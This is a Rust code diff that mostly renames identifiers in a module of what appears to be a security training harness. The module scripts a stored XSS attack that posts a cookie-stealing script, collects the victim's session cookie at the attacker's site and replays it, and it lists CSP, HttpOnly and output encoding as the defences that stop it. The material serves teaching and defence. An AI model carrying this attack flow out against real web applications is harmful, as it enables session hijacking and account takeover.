@@ -6,7 +6,7 @@
 
 use async_trait::async_trait;
 
-use super::stage::{ATTACKER, Stage, StageError, VICTIM};
+use super::scenario::{ATTACKER, Scenario, ScenarioError, VICTIM};
 use super::{Attack, Card, Engine, Outcome};
 use crate::attacks::payloads;
 use crate::client::caller::Call;
@@ -23,7 +23,7 @@ const CARD: Card = Card {
             document.cookie in its address.",
     evidence: "With the cookie that arrived the attacker's own client is greeted as the victim.",
     stopped_by: &[&[Name::Output], &[Name::Csp], &[Name::HttpOnly]],
-    stopped_says: "The board showed the script as text, the browser refused to run it, or it found \
+    when_stopped: "The board showed the script as text, the browser refused to run it, or it found \
                    no session cookie to read.",
     shows: &["XSS-RUN", "XSS-STEAL", "CK-HTTPONLY", "HDR-CSP"],
     standards: &[
@@ -41,33 +41,33 @@ impl Attack for XssStealsCookie {
         &CARD
     }
 
-    async fn run(&self, stage: &Stage) -> Result<Outcome, StageError> {
-        let portal = stage.portal(stage.scheme().await?);
-        stage.says("The attacker signs in as mallory and posts a notice with a script.");
-        let mut attacker = stage.person("attacker");
+    async fn run(&self, scenario: &Scenario) -> Result<Outcome, ScenarioError> {
+        let portal = scenario.portal(scenario.scheme().await?);
+        scenario.narrate("The attacker signs in as mallory and posts a notice with a script.");
+        let mut attacker = scenario.actor("attacker");
         attacker.sign_in(ATTACKER).await?;
-        let script = payloads::steal_cookie(&stage.catcher());
+        let script = payloads::steal_cookie(&scenario.catcher());
         attacker.post_notice(&script).await?;
 
-        stage.says("The victim signs in and opens the notice board.");
-        let victim = stage.seat("victim").await?;
+        scenario.narrate("The victim signs in and opens the notice board.");
+        let victim = scenario.browser_actor("victim").await?;
         victim.sign_in(&portal, VICTIM).await?;
         victim.visit(&format!("{portal}/board")).await?;
 
-        stage.says("The attacker looks at what his site has received, and uses it.");
-        let loot = stage.loot_within(super::stage::A_MOMENT).await?;
+        scenario.narrate("The attacker looks at what his site has received, and uses it.");
+        let loot = scenario.loot_within(super::scenario::A_MOMENT).await?;
         let stolen = loot.iter().find_map(|loot| loot.query("cookie"));
         let mut pairs = stolen.iter().flat_map(|cookies| cookies.split("; "));
         let session = pairs.find(|pair| pair.contains("session_"));
         let Some(session) = session else {
-            return Ok(Outcome::Stopped(CARD.stopped_says.into()));
+            return Ok(Outcome::Stopped(CARD.when_stopped.into()));
         };
         let replay = Call::get("/dashboard").with_cookie(Some(session.to_owned()));
         Ok(match attacker.greeted_as(replay).await? {
             Some(user) if user == VICTIM => {
                 Outcome::Succeeded(format!("The stolen cookie opens {user}'s dashboard."))
             }
-            _ => Outcome::Stopped(CARD.stopped_says.into()),
+            _ => Outcome::Stopped(CARD.when_stopped.into()),
         })
     }
 }
